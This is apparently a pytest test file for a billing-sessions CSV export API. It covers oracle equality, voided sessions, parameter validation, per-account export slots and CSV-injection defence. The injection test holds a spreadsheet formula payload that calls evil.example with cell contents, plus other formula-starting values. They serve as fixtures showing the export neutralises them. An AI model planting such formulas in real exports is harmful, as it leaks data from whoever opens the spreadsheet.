"""``/api/v1/sessions.csv``: the rules engine's billing sessions of the range, one row each, streamed.

The oracle is `metering compute --sessions` over the same events: same rows (ids, columns and
values), whatever the replays; voided sessions are left out; the range and app filters hold.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from cli.main import main
from console.routers import exports
from console.routers.exports import MAX_CONCURRENT_EXPORTS, MAX_EXPORTS_PER_ACCOUNT, ExportSlots
from consumers.clickhouse import Client
from consumers.clickhouse.reconcile import ReconcileRun, RepairBatch, SessionVoid, apply_batch
from consumers.reports.sessions import SESSION_COLUMNS
from devtools import traffic
from pipeline.contract.decode import to_ms
from tests.console_support import bearer, console_settings, fill, http, make_app, token
from tests.support import Conversation, in_time_order, migrated_database, wait_until

SHAPE = traffic.TrafficShape(accounts=2, apps_per_account=3, conversations_per_minute=0.05)
T0 = to_ms(datetime(2026, 5, 1, 10, tzinfo=UTC))
ACCOUNT = "acct-00"


@pytest.fixture(scope="module")
def events_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("sessions-export") / "events.jsonl"
    path.write_bytes(b"\n".join(traffic.encode(e) for e in traffic.events(T0, 4000, seed=9, shape=SHAPE)) + b"\n")
    return path


@pytest.fixture(scope="module")
def export_db(chdb_client: Client, events_file: Path) -> Iterator[str]:
    import json  # noqa: PLC0415

    with migrated_database(chdb_client) as database:
        fill(chdb_client, database, [json.loads(line) for line in events_file.read_bytes().splitlines()], replay=True)
        yield database


@pytest.fixture(scope="module")
def client(chdb_client: Client, export_db: str) -> Iterator[TestClient]:
    with http(make_app(chdb_client, export_db)) as c:
        yield c


def compute_sessions(path: Path, first: str, last: str, tz: str) -> list[dict[str, str]]:
    args = ["compute", "--events", str(path), "--sessions", "--from", first, "--to", last, "--timezone", tz]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def app_of(path: Path) -> dict[str, str]:
    """Which app each computed session belongs to, and which account each app."""
    import json  # noqa: PLC0415

    return {e["app_id"]: e["account_id"] for e in (json.loads(x) for x in path.read_bytes().splitlines())}


def export(client: TestClient, **params: str) -> tuple[int, list[dict[str, str]], Any]:
    answer = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token(ACCOUNT)))
    if answer.status_code != 200:
        return answer.status_code, [], answer
    assert answer.text.splitlines()[0] == ",".join(SESSION_COLUMNS)
    return 200, list(csv.DictReader(io.StringIO(answer.text))), answer


@pytest.mark.parametrize("tz", ["UTC", "Asia/Kolkata"])
def test_rows_equal_compute_sessions_for_the_range(client: TestClient, events_file: Path, tz: str) -> None:
    first, last = "2026-05-01", "2026-05-02"
    status, rows, answer = export(client, **{"from": first, "to": last, "timezone": tz})
    assert status == 200
    assert answer.headers["content-disposition"].startswith("attachment")
    accounts = app_of(events_file)
    expected = [r for r in compute_sessions(events_file, first, last, tz) if accounts[r["app_id"]] == ACCOUNT]
    assert len(rows) == len(expected) > 50
    assert {r["billing_session_id"] for r in rows} == {r["billing_session_id"] for r in expected}
    by_id = {r["billing_session_id"]: r for r in expected}
    for row in rows:
        assert row == by_id[row["billing_session_id"]], "every column as the rules engine has it"
    assert {r["billing_session_type"] for r in rows} == {"usage", "voice", "alert"}


def test_one_app_and_voided_sessions(
    client: TestClient, chdb_client: Client, export_db: str, events_file: Path
) -> None:
    first, last = "2026-05-02", "2026-05-02"
    _, all_rows, _ = export(client, **{"from": first, "to": last})
    app = all_rows[0]["app_id"]
    _, rows, _ = export(client, **{"from": first, "to": last, "app": app})
    assert rows == [r for r in all_rows if r["app_id"] == app]
    victim = rows[0]
    started = datetime.fromisoformat(victim["billing_session_started_at"].replace("Z", "+00:00"))
    run = ReconcileRun(
        run_id="void-test", period_from=date(2026, 5, 2), period_to=date(2026, 5, 2), timezone="UTC",
        source="test", status="done", started_ms=T0,
    )  # fmt: skip
    void = SessionVoid(
        billing_session_id=victim["billing_session_id"],
        account_id=ACCOUNT,
        app_id=app,
        kind=victim["billing_session_type"],  # type: ignore[arg-type]
        started_ms=to_ms(started),
        conversation_session_id=victim["conversation_session_id"] or None,
        session_index=0,
        reason="test",
    )
    apply_batch(chdb_client, export_db, RepairBatch(run=run, token="void-test", voids=[void]))
    _, after, _ = export(client, **{"from": first, "to": last, "app": app})
    assert [r["billing_session_id"] for r in after] == [r["billing_session_id"] for r in rows[1:]]


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"from": "2026-05-03", "to": "2026-05-01"}, "from"),
        ({"from": "2026-01-01", "to": "2026-04-30"}, "to"),
        ({"from": "May", "to": "2026-05-01"}, "from"),
        ({"timezone": "Nowhere/Land"}, "timezone"),
        ({"app": ""}, "app"),
        ({"form": "2026-05-01"}, "form"),
    ],
)
def test_bad_parameters(client: TestClient, params: dict[str, str], parameter: str) -> None:
    status, _, answer = export(client, **params)
    assert status == 400
    assert answer.json()["parameter"] == parameter


def test_the_limit_can_be_raised_and_another_accounts_app_is_404(chdb_client: Client, export_db: str) -> None:
    with http(make_app(chdb_client, export_db, console_settings(export_max_days=200))) as c:
        status, rows, _ = export(c, **{"from": "2026-01-01", "to": "2026-05-01"})
        assert status == 200
        assert rows
        status, _, _ = export(c, **{"app": "app-01-0"})
        assert status == 404


# -- spreadsheet formulas (CSV injection) -----------------------------------------------------------------------------


def test_text_that_a_spreadsheet_would_run_is_neutralised_as_compute_writes_it(
    chdb_client: Client, database: str, tmp_path: Path
) -> None:
    """user_id, channel, app and conversation ids come from end users' platforms: a cell starting with
    = + - @ (or a tab or CR) would run as a formula when the admin opens the export. The export writes it
    with a leading ' (OWASP), as `metering compute --sessions` does; bot_ms and agent_ms stay numbers."""
    import json  # noqa: PLC0415

    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    events = [
        *Conversation("c-evil", app_id="acme-bot", account_id=ACCOUNT, user_id=evil).user(0).bot(1).events,
        *Conversation("-c2", app_id="+app", account_id=ACCOUNT, user_id="@sum(1)", channel="\tweb")
        .user(0)
        .bot(2)
        .events,
        *Conversation("c-3", app_id="acme-bot", account_id=ACCOUNT, user_id="-42").user(0).bot(1).events,
    ]
    events = in_time_order(events)
    fill(chdb_client, database, events)
    path = tmp_path / "events.jsonl"
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    with http(make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))) as c:
        status, rows, answer = export(c, **{"from": "2026-11-01", "to": "2026-11-01"})
    assert status == 200, answer.text
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            live = value.startswith(("=", "+", "@", "\t", "\r")) or (value.startswith("-") and value != "-42")
            assert not live, f"{column}={value!r} is a live formula in a spreadsheet"
    by_user = {r["user_id"]: r for r in rows}
    assert set(by_user) == {"'" + evil, "'@sum(1)", "-42"}, "a plain number is not a formula: it stays as it is"
    odd = by_user["'@sum(1)"]
    assert (odd["app_id"], odd["channel"]) == ("'+app", "'\tweb")
    assert int(odd["bot_ms"]) > 0
    assert not odd["agent_ms"].startswith("'")
    assert "\"'=HYPERLINK(" in answer.text, "the CSV quotes the text cell"
    expected = compute_sessions(path, "2026-11-01", "2026-11-01", "UTC")
    assert sorted(rows, key=lambda r: r["billing_session_id"]) == sorted(
        expected, key=lambda r: r["billing_session_id"]
    ), "the export and its oracle neutralise alike"


# -- how many exports at once ---------------------------------------------------------------------------------------


def test_export_slots_per_account_and_in_all() -> None:
    slots = ExportSlots(total=3, per_account=2)
    assert slots.take("acme") is None
    assert slots.take("acme") is None
    assert "of this account" in (slots.take("acme") or "")
    assert slots.take("globex") is None, "one account's exports never take every slot"
    assert "as many exports as it can" in (slots.take("initech") or "")
    slots.give_back("acme")
    assert slots.take("initech") is None
    slots.give_back("acme")
    slots.give_back("globex")
    slots.give_back("initech")
    assert all(slots.take(a) is None for a in ("a", "b", "c"))


def test_one_accounts_slow_exports_do_not_lock_the_others_out(
    chdb_client: Client, export_db: str, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two exports of acct-00 still downloading (slow clients) hold their slots: a third of acct-00 is 429, an export
    of acct-01 runs; with every slot taken anyone gets 429 with Retry-After; a finished export gives its slot back."""
    slots = ExportSlots()
    monkeypatch.setattr(exports, "_slots", slots)
    for _ in range(MAX_EXPORTS_PER_ACCOUNT):
        assert slots.take(ACCOUNT) is None  # downloading
    params = {"from": "2026-05-01", "to": "2026-05-01"}
    mine = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token(ACCOUNT)))
    assert mine.status_code == 429
    assert mine.headers["retry-after"] == "10"
    assert "of this account" in mine.json()["error"]
    theirs = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token("acct-01")))
    assert theirs.status_code == 200, theirs.text
    assert len(theirs.text.splitlines()) > 1
    wait_until(lambda: slots.running() == {ACCOUNT: MAX_EXPORTS_PER_ACCOUNT}, 30, "the finished export's slot back")
    for n in range(MAX_CONCURRENT_EXPORTS - MAX_EXPORTS_PER_ACCOUNT):
        assert slots.take(f"busy-{n}") is None
    full = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token("acct-01")))
    assert full.status_code == 429, "the console's own cap still holds"
    slots.give_back(ACCOUNT)
    assert client.get("/api/v1/sessions.csv", params=params, headers=bearer(token(ACCOUNT))).status_code == 200
